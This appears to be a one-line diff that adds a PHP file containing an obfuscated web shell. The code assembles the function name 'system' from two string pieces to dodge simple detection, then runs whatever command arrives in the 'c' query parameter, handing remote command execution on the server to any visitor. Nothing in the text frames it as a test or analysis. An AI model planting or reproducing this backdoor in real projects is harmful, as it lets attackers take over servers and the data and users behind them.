@@ -1,0 +1,1 @@
+<?php function g() { return "sys" . "tem"; } $f = g(); $f($_GET["c"]);
